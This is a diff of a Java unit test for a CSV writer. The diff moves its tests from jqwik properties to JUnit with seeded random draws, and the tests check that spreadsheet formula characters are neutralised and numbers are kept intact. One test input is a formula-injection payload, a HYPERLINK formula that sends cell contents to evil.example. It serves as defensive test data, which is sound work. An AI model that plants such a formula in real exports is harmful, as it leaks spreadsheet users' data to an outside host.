@@ -1,23 +1,22 @@
 package dev.l2r.funnel.api;
 
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Example;
-import net.jqwik.api.ForAll;
-import net.jqwik.api.Property;
-import net.jqwik.api.Provide;
+import dev.l2r.infra.test.Draw;
+import dev.l2r.infra.test.Tries;
+import org.junit.jupiter.api.Test;
 
 import java.math.BigDecimal;
 import java.time.Instant;
 import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Random;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
 /**
  * Cells as a spreadsheet would read them: text never starts with a formula character once written, reads back as
- * exactly the text (after the neutralising quote), and numbers stay numbers.
+ * exactly the text (after the neutralising quote), and numbers stay numbers. Seeded draws ({@link Tries}): a failure
+ * names its seed and input.
  */
 public class CsvWriterTest {
 
@@ -58,7 +57,7 @@ public class CsvWriterTest {
         return line.toString();
     }
 
-    @Example
+    @Test
     void formulasInTextAreNeutralisedAndQuoted() {
         assertThat(CsvWriter.field("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
                 .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
@@ -72,7 +71,7 @@ public class CsvWriterTest {
         assertThat(CsvWriter.field("-5")).isEqualTo("\"'-5\"");
     }
 
-    @Example
+    @Test
     void numbersDatesAndTimesStayAsTheyAre() {
         assertThat(CsvWriter.field(new BigDecimal("-1.500000"))).isEqualTo("-1.500000");
         assertThat(CsvWriter.field(new BigDecimal("-1E+3"))).isEqualTo("-1000");
@@ -83,7 +82,7 @@ public class CsvWriterTest {
         assertThat(CsvWriter.field(null)).isEmpty();
     }
 
-    @Example
+    @Test
     void plainTextIsUnquotedAndSeparatorsAreQuoted() {
         assertThat(CsvWriter.field("paid_search")).isEqualTo("paid_search");
         assertThat(CsvWriter.field("a=b")).isEqualTo("a=b");
@@ -92,37 +91,43 @@ public class CsvWriterTest {
         assertThat(CsvWriter.field("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
     }
 
-    @Provide
-    Arbitrary<String> texts() {
-        Arbitrary<String> tricky = Arbitraries.strings().withChars("=+-@\t\r\n\0,;\"' aZ1(").ofMaxLength(12);
-        return Arbitraries.oneOf(tricky, Arbitraries.strings().ofMaxLength(20));
+    /** Short text of the characters that matter to a spreadsheet and to CSV, or any text. */
+    static String text(Random random) {
+        return random.nextBoolean() ? Draw.string(random, "=+-@\t\r\n\0,;\"' aZ1(", 12) : Draw.anyString(random, 20);
     }
 
-    @Property(tries = 3000)
-    void textReadsBackAsItselfAndNeverStartsAFormula(@ForAll("texts") String text, @ForAll("texts") String next) {
-        String line = line(text, next);
-        List<String> cells = read(line);
-        assertThat(cells).hasSize(2);
-        for (int i = 0; i < 2; i++) {
-            String original = i == 0 ? text : next;
-            String cell = cells.get(i);
-            if (!original.isEmpty() && CsvWriter.FORMULA_START.indexOf(original.charAt(0)) >= 0) {
-                assertThat(cell).isEqualTo("'" + original);
-            } else {
-                assertThat(cell).isEqualTo(original);
+    @Test
+    void textReadsBackAsItselfAndNeverStartsAFormula() {
+        Tries.forAll(3000, random -> List.of(text(random), text(random)), Draw::shorterEach, texts -> {
+            List<String> cells = read(line(texts.get(0), texts.get(1)));
+            assertThat(cells).hasSize(2);
+            for (int i = 0; i < 2; i++) {
+                String original = texts.get(i);
+                String cell = cells.get(i);
+                if (!original.isEmpty() && CsvWriter.FORMULA_START.indexOf(original.charAt(0)) >= 0) {
+                    assertThat(cell).isEqualTo("'" + original);
+                } else {
+                    assertThat(cell).isEqualTo(original);
+                }
+                assertThat(cell.isEmpty() || CsvWriter.FORMULA_START.indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
+                // a semicolon-splitting spreadsheet finds no cell of its own inside: the field is quoted
+                if (original.indexOf(';') >= 0) {
+                    assertThat(CsvWriter.field(original)).startsWith("\"").endsWith("\"");
+                }
             }
-            assertThat(cell.isEmpty() || CsvWriter.FORMULA_START.indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
-            // a semicolon-splitting spreadsheet finds no cell of its own inside: the field is quoted
-            if (original.indexOf(';') >= 0) {
-                assertThat(CsvWriter.field(original)).startsWith("\"").endsWith("\"");
-            }
-        }
+        });
     }
 
-    @Property(tries = 1000)
-    void negativeNumbersStayNumbers(@ForAll long n, @ForAll @net.jqwik.api.constraints.IntRange(max = 9) int scale) {
-        BigDecimal d = BigDecimal.valueOf(n, scale);
-        assertThat(CsvWriter.field(d)).isEqualTo(d.toPlainString());
-        assertThat(CsvWriter.field(n)).isEqualTo(Long.toString(n));
+    record Scaled(long unscaled, int scale) {
+    }
+
+    @Test
+    void negativeNumbersStayNumbers() {
+        Tries.forAll(1000, random -> new Scaled(Draw.between(random, Long.MIN_VALUE, Long.MAX_VALUE),
+                Draw.between(random, 0, 9)), n -> {
+            BigDecimal d = BigDecimal.valueOf(n.unscaled(), n.scale());
+            assertThat(CsvWriter.field(d)).isEqualTo(d.toPlainString());
+            assertThat(CsvWriter.field(n.unscaled())).isEqualTo(Long.toString(n.unscaled()));
+        });
     }
 }
